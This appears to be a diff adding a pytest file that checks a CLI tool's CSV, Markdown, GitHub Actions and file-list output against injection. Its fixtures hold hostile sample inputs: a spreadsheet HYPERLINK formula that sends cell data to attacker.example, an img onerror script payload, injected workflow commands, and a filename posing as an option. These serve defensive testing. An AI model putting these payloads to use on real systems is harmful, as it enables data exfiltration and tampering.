@@ -1,0 +1,175 @@
+"""What ragcli prints is safe where it lands (issue 33): a spreadsheet, rendered Markdown, a GitHub Actions log,
+a command line. Each destination is checked the way it reads the output: csv.reader for the spreadsheet,
+the Markdown text for tags, a merged stdout+stderr stream for the runner, ``xargs`` for the command line.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import subprocess
+from pathlib import Path
+
+import pytest
+from support.cli import clean_env, cli, cli_args
+from support.corpus import write_markdown, write_user
+
+TENANT = "outco"
+FORMULA_TITLE = '=HYPERLINK("http://attacker.example/?q="&A1,"Open invoice")'
+HOSTILE_BODY = (
+    "@SUM(1+1) walrus ledger figures.\n\n"
+    '<img src=x onerror="alert(1)"> <details open><summary>walrus</summary>hidden</details> '
+    "<a href='http://attacker.example'>walrus login</a>\n\n"
+    "::add-mask::walrus-secret\n::error file=app.py::walrus failure injected\n"
+)
+
+
+@pytest.fixture(scope="module")
+def indexed(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, Path]:
+    tmp = tmp_path_factory.mktemp("output")
+    folder = tmp / "docs"
+    write_markdown(folder / "ledger.md", {"id": "ledger", "title": FORMULA_TITLE}, "## -2+3 totals\n\n" + HOSTILE_BODY)
+    write_markdown(folder / "--version.md", {"id": "dash"}, "The walrus dash file.\n")
+    write_markdown(folder / "my walrus notes.md", {"id": "spaced"}, "Walrus notes with spaces in the name.\n")
+    index = tmp / "index"
+    proc = cli("ingest", folder, "--tenant", TENANT, "--index", index, "--acl", "everyone")
+    assert proc.returncode == 0, proc.stderr
+    return folder, index, write_user(tmp / "reader.json", "reader", TENANT, ["everyone"])
+
+
+def _search(indexed: tuple[Path, Path, Path], *args: object, env: dict[str, str] | None = None):  # type: ignore[no-untyped-def]
+    _, index, user = indexed
+    proc = cli("search", "walrus", "--as", user, "--index", index, *args, env=env)
+    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr[-2000:]
+    return proc
+
+
+@pytest.mark.slow
+def test_csv_cells_that_a_spreadsheet_would_run_begin_with_a_quote(indexed) -> None:  # type: ignore[no-untyped-def]
+    rows = list(csv.reader(io.StringIO(_search(indexed, "--format", "csv").stdout)))
+    header, body = rows[0], rows[1:]
+    assert body
+    for row in body:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (header, row)
+    ledger = next(dict(zip(header, row, strict=True)) for row in body if row[header.index("doc_id")] == "ledger")
+    assert ledger["title"] == "'" + FORMULA_TITLE  # the text itself is kept, only defused
+    assert ledger["section"].startswith("'-2+3")
+    assert any(row[header.index("source")] == "'--version.md" for row in body)
+
+
+@pytest.mark.slow
+def test_markdown_results_show_html_as_text(indexed) -> None:  # type: ignore[no-untyped-def]
+    out = _search(indexed, "--format", "md").stdout
+    assert not re.search(r"<\s*(img|details|a|summary)\b", out, re.IGNORECASE), out
+    assert "&lt;img src=x" in out or "&lt;details" in out or "&lt;a href" in out, out
+
+
+def test_eval_summary_escapes_html_and_cuts_before_escaping() -> None:
+    from ragcli.eval.summary import SHOWN_CHARS, markdown_summary
+    from ragcli.eval.wire import EvalJson
+
+    question = "x" * (SHOWN_CHARS - 10) + "<a href='http://attacker.example'>click</a>"  # the cut falls in the tag
+    data = EvalJson.model_validate(
+        {
+            "case_count": 1,
+            "cases": [],
+            "k": 5,
+            "retrieval": {},
+            "retrieval_cases": 1,
+            "permission_violations": 0,
+            "disposition_accuracy": None,
+            "reason_accuracy": None,
+            "latency_ms": {},
+            "failures": [
+                {
+                    "id": "c1",
+                    "line": 1,
+                    "question": question,
+                    "kind": "missed_relevant",
+                    "expected": "<img src=x>",
+                    "got": "&",
+                }
+            ],
+            "gates": {},
+        }
+    )
+    text = markdown_summary(data, name="<details>q.jsonl")
+    assert "<a" not in text and "<img" not in text and "<details" not in text, text
+    assert "&lt;img src=x&gt;" in text
+    row = next(line for line in text.splitlines() if line.startswith("| `c1`"))
+    assert "xxxx&lt;a href..." in row  # cut in the raw text, then escaped: no half entity, no open tag
+    assert re.search(r"&(?!(lt|gt|amp);)", row) is None, row  # every & begins a whole entity
+
+
+@pytest.mark.slow
+def test_github_actions_workflow_commands_in_documents_are_not_run(indexed) -> None:  # type: ignore[no-untyped-def]
+    """The runner reads stdout and stderr as one stream: check the order there, merged."""
+    _, index, user = indexed
+    tokens = []
+    for _ in range(2):
+        proc = subprocess.run(
+            cli_args("search", "walrus", "--as", user, "--index", index, "--format", "table"),
+            stdout=subprocess.PIPE,
+            stderr=subprocess.STDOUT,
+            text=True,
+            env=clean_env({"GITHUB_ACTIONS": "true"}),
+            timeout=300,
+        )
+        assert proc.returncode == 0, proc.stdout[-2000:]
+        lines = proc.stdout.splitlines()
+        start = next(i for i, line in enumerate(lines) if line.startswith("::stop-commands::"))
+        token = lines[start].removeprefix("::stop-commands::")
+        end = lines.index(f"::{token}::")
+        commands = [i for i, line in enumerate(lines) if "::add-mask::" in line or "::error" in line]
+        assert commands and all(start < i < end for i in commands), lines
+        tokens.append(token)
+    assert len(tokens[0]) >= 32 and tokens[0] != tokens[1]  # random: a document cannot close the block itself
+    plain = _search(indexed, "--format", "table")
+    assert "::stop-commands::" not in plain.stdout + plain.stderr  # only on a runner
+
+
+@pytest.mark.slow
+def test_ask_under_github_actions_stops_workflow_commands(indexed) -> None:  # type: ignore[no-untyped-def]
+    _, index, user = indexed
+    proc = cli(
+        "ask",
+        "walrus failure injected",
+        "--as",
+        user,
+        "--index",
+        index,
+        "--model",
+        "local",
+        env={"GITHUB_ACTIONS": "true"},
+    )
+    assert proc.returncode in (0, 1) and "Traceback" not in proc.stderr, proc.stderr[-2000:]
+    start = re.search(r"^::stop-commands::([0-9a-f]{32})$", proc.stderr, re.MULTILINE)
+    assert start is not None and f"::{start.group(1)}::" in proc.stderr.splitlines(), proc.stderr
+
+
+@pytest.mark.slow
+def test_files_output_cannot_be_read_as_options_and_print0_keeps_names_whole(indexed) -> None:  # type: ignore[no-untyped-def]
+    folder, index, user = indexed
+    lines = _search(indexed, "--format", "files").stdout.splitlines()
+    assert "./--version.md" in lines and "--version.md" not in lines
+    nul = _search(indexed, "--format", "files", "-0").stdout
+    assert nul.endswith("\0") and "\n" not in nul
+    assert set(nul.rstrip("\0").split("\0")) >= {"./--version.md", "my walrus notes.md", "ledger.md"}
+    # The documented pipeline, run as documented: every file found, none read as an option.
+    search = subprocess.list2cmdline([str(a) for a in cli_args("search", "walrus", "--as", user, "--index", index)])
+    pipeline = f"{search} --format files -0 | xargs -0 grep -l -i walrus"
+    proc = subprocess.run(
+        pipeline, shell=True, cwd=folder, capture_output=True, text=True, env=clean_env(), timeout=300
+    )
+    assert proc.returncode == 0, proc.stderr
+    assert set(proc.stdout.split("\n")) - {""} == {"./--version.md", "my walrus notes.md", "ledger.md"}
+
+
+@pytest.mark.slow
+def test_print0_without_files_format_is_one_error_line(indexed) -> None:  # type: ignore[no-untyped-def]
+    from support.cli import assert_one_error_line
+
+    _, index, user = indexed
+    assert_one_error_line(cli("search", "walrus", "--as", user, "--index", index, "-0"), "--print0", "files")
